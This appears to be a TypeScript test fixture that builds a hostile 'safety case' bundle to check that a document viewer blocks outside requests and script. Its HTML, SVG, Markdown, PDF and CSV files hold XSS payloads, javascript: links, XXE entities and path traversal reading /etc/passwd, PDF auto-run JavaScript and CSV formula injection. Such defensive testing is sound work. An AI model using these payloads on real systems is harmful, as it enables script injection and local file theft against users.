/** A sealed case of which every part tries to reach a server, run a script or leave the window. */
import { createHash } from 'node:crypto';
import path from 'node:path';
import { packBundle } from '../../electron/host/bundle/pack.ts';
import { writeFiles } from './bundle-folder.ts';

/** What a page does with these where nothing stops it: asks for the path of the name. */
export const REACHED_BY_HTML = [
  'html-image', 'html-stylesheet', 'html-import', 'html-background', 'html-font', 'html-iframe',
  'html-script', 'html-fetch', 'html-video', 'html-poster', 'html-object', 'html-embed', 'html-audio',
  'html-svg-image', 'html-foreign', 'html-prefetch', 'html-base',
] as const; // prettier-ignore

/** HTML that reaches for `origin` in every way it can, and sets `window.reached` where it may run. */
export function toHostileHtml(origin: string): string {
  return `<base href="${origin}/">
<link rel="stylesheet" href="${origin}/html-stylesheet">
<link rel="prefetch" href="${origin}/html-prefetch">
<link rel="dns-prefetch" href="//reached.example"><link rel="preconnect" href="${origin}">
<style>@import url("${origin}/html-import"); @font-face { font-family: reached; src: url("${origin}/html-font"); }
#hostile { font-family: reached; width: 9px; height: 9px; background: url("${origin}/html-background"); }</style>
<div id="hostile">text in the font</div>
<img src="${origin}/html-image" onerror="window.reached = 'onerror'">
<img src="html-base">
<iframe src="${origin}/html-iframe"></iframe>
<object data="${origin}/html-object"></object><embed src="${origin}/html-embed">
<video src="${origin}/html-video" poster="${origin}/html-poster" preload="auto"></video>
<audio src="${origin}/html-audio" preload="auto" autoplay></audio>
<script>window.reached = 'script'; fetch("${origin}/html-fetch", { mode: 'no-cors' }); alert('reached');</script>
<script src="${origin}/html-script"></script>
${toHostileSvg(origin, 'html')}
<form action="${origin}/html-form" method="post"><input name="a" value="b"><button>Send</button></form>`;
}

export function toHostileSvg(origin: string, name: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="window.reached = 'svg'">
<image href="${origin}/${name}-svg-image" xlink:href="${origin}/${name}-svg-image" width="9" height="9"/>
<foreignObject width="20" height="20"><img xmlns="http://www.w3.org/1999/xhtml" src="${origin}/${name}-foreign"/></foreignObject>
<script>window.reached = 'svg script'; fetch("${origin}/${name}-svg-fetch");</script>
<use href="${origin}/${name}-svg-use#a"/><rect width="20" height="20" fill="url(${origin}/${name}-svg-fill#b)"/>
</svg>`;
}

/** An SVG that asks for a file through an external entity and a style sheet, before it draws anything. */
function toEntitySvg(origin: string): string {
  return `<?xml version="1.0"?><?xml-stylesheet href="${origin}/entity-style" type="text/css"?>
<!DOCTYPE svg [<!ENTITY outside SYSTEM "${origin}/entity-outside"><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "${origin}/entity-parameter">%more;]>
<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><text y="20">&outside;&file;</text><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>`;
}

/** A PDF that runs script when it is opened, sends a form and asks for another file. */
function toHostilePdf(origin: string): string {
  return `%PDF-1.7
1 0 obj <</Type/Catalog /Pages 2 0 R /OpenAction 3 0 R /AA <</WC 4 0 R>> /Names <</JavaScript <</Names [(a) 3 0 R]>>>>>> endobj
2 0 obj <</Type/Pages /Kids [5 0 R] /Count 1>> endobj
3 0 obj <</S/JavaScript /JS (app.alert\\('reached'\\); this.submitForm\\('${origin}/pdf-script'\\);)>> endobj
4 0 obj <</S/URI /URI (${origin}/pdf-uri)>> endobj
5 0 obj <</Type/Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA <</O <</S/GoToR /F (${origin}/pdf-goto) /D [0 /Fit]>>>>>> endobj
trailer <</Root 1 0 R>>
%%EOF
`;
}

function toHostileMarkdown(origin: string): string {
  return `# Hostile words

![picture from outside](${origin}/md-image) and ![another][picture].

A [script link](javascript:window.reached='md') and a [hidden one](java\tscript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)
and [VB](vbscript:msgbox(1)) and [a file](file:///etc/passwd) and [the program](app://countersign/index.html).

An [address outside](${origin}/md-link), an autolink <${origin}/md-autolink>, a bare ${origin}/md-bare, and [by reference][outside].

A [way out of the bundle](../../../../etc/passwd), a [claim](#G1), and the [picture inside](../evidence/E1_picture.svg).

![the picture inside](../evidence/E1_picture.svg)

<meta http-equiv="refresh" content="0;url=${origin}/md-refresh">

${toHostileHtml(origin).replaceAll('\n\n', '\n')}

Inline <img src="${origin}/md-inline" onerror="alert(1)"> and <a href="javascript:alert(1)">raw link</a>.

| a | b |
| --- | --- |
| ![cell](${origin}/md-cell) | [cell](javascript:alert(2)) |

- item with ![list](${origin}/md-item)

> quote with <iframe src="${origin}/md-quote"></iframe>

Note.[^1]

[^1]: ![footnote](${origin}/md-footnote)

[picture]: ${origin}/md-reference-image
[outside]: ${origin}/md-reference
`;
}

export const HOSTILE_DOCUMENTS = ['docs/01-hostile.md', 'docs/02-more.md'];
export const HOSTILE_EVIDENCE = ['E1', 'E2', 'E3', 'E4', 'E5', 'E6', 'E7', 'E8'];
export const HOSTILE_NODES = ['G1', 'G2', 'Sn1'];

/** Packs the case; everything in it points to `origin`. */
export async function packHostileCase(folder: string, origin: string): Promise<string> {
  const html = toHostileHtml(origin);
  const markdown = toHostileMarkdown(origin);
  const evidence: readonly (readonly [id: string, file: string, type: string, content: string])[] = [
    ['E1', 'E1_picture.svg', 'image/svg+xml', toHostileSvg(origin, 'evidence')],
    ['E2', 'E2_page.html', 'text/html', `<!doctype html><html><body>${html}</body></html>`],
    ['E3', 'E3_words.md', 'text/markdown', markdown],
    ['E4', 'E4_values.json', 'application/json', JSON.stringify({ html, link: `${origin}/json`, __proto__x: { constructor: html } })],
    ['E5', 'E5_rows.csv', 'text/csv', `name,value\n"=HYPERLINK(""${origin}/csv"")","<img src=${origin}/csv-image onerror=alert(1)>"\n"@SUM(1)","javascript:alert(1)"\n`],
    ['E7', 'E7_pages.pdf', 'application/pdf', toHostilePdf(origin)],
    ['E8', 'E8_entities.svg', 'image/svg+xml', toEntitySvg(origin)],
    ['E6', 'E6_log.txt', 'text/plain', `${html}\n${origin}/text\n`],
  ]; // prettier-ignore
  const index = evidence.map(([id, file, mediaType, content]) => ({ id, file, mediaType, title: `<img src=${origin}/title-${id}> ${id}`, bytes: Buffer.byteLength(content), sha256: createHash('sha256').update(content).digest('hex') })); // prettier-ignore
  const source = await writeFiles(path.join(folder, 'hostile'), {
    'case.yaml': `case: HOSTILE-1\ntitle: ${JSON.stringify(`Hostile <img src=${origin}/case-title>`)}\nversion: "1.0"\ntopNode: G1\nargument: argument.yaml\nevidenceIndex: evidence/index.yaml\n`,
    // JSON is YAML.
    'argument.yaml': `${JSON.stringify({
      G1: { kind: 'goal', text: `Safe. <script>alert(1)</script> ![x](${origin}/node-image) [x](javascript:alert(1))`, supportedBy: ['G2'], doc: 'docs/01-hostile.md' },
      G2: { kind: 'goal', text: html, supportedBy: ['Sn1'], doc: 'docs/02-more.md#hostile-words', url: `${origin}/node-url` },
      Sn1: { kind: 'solution', text: `<iframe src="${origin}/node-iframe">`, evidence: HOSTILE_EVIDENCE, url: 'javascript:alert(1)' },
    })}\n`,
    'evidence/index.yaml': `${JSON.stringify({ evidence: index })}\n`,
    [HOSTILE_DOCUMENTS[0] ?? '']: markdown,
    [HOSTILE_DOCUMENTS[1] ?? '']: markdown,
    ...Object.fromEntries(evidence.map(([, file, , content]) => [`evidence/${file}`, content])),
  }); // prettier-ignore
  const file = path.join(folder, 'hostile.safetycase');
  await packBundle(source, file);
  return file;
}
